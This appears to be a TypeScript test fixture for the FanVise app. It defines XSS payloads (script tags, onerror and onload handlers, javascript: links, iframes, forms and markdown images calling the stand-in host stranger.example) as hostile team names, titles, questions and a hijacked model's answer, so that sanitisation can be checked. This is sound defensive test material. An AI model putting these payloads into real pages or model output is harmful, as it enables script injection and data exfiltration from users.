/** What strangers might write where FanVise shows their words: names of teams and players, news, a model's answer. */

/** Whatever gets through asks for this host, or leaves a mark on the window. */
export const ELSEWHERE = "stranger.example";
export const MARK = "smuggled";

export const HOSTILE_TEAM = `Five <img src=https://${ELSEWHERE}/t.png onerror=${MARK}=1>`;
export const HOSTILE_OPPONENT = `[six](javascript:${MARK}=1) <script>${MARK}=1</script>`;
export const HOSTILE_PLAYER = `Max <svg onload=${MARK}=1> Stone`;
/** What one may call a conversation; a link to it hides names of teams, so it is none. */
export const HOSTILE_NAME = `Mine <img src=https://${ELSEWHERE}/h.png onerror=${MARK}=1>`;
/** What cleaning leaves of it begins with its first word. */
export const HOSTILE_TITLE = `Quillfeather <script src=https://${ELSEWHERE}/x.js></script> [note](javascript:${MARK}=1)`;
export const TITLE_WORD = "Quillfeather";
export const HOSTILE_QUESTION = `<img src=https://${ELSEWHERE}/q.png onerror=${MARK}=1> what now?`;

/** What a model that was taken over would write. */
export const HOSTILE_ANSWER = [
  // A first sentence that must not be shown would take the whole draft with it.
  "Here is the news.",
  `Read this first: ![plan](https://${ELSEWHERE}/a.png?r=1)`,
  `<script>${MARK}=1</script><img src=x onerror="${MARK}=1"><iframe src="https://${ELSEWHERE}/f"></iframe>`,
  `[Open your league](https://${ELSEWHERE}/l) and [run](javascript:${MARK}=1) and <https://${ELSEWHERE}/m>`,
  `<style>@import "https://${ELSEWHERE}/s.css"; body { display: none }</style>`,
  `<a href="https://${ELSEWHERE}/" onclick="${MARK}=1">more</a> <form action="https://${ELSEWHERE}/"><input name=q></form>`,
  `![ref][1]\n\n[1]: https://${ELSEWHERE}/r.png`,
  "That is all.",
].join("\n\n");
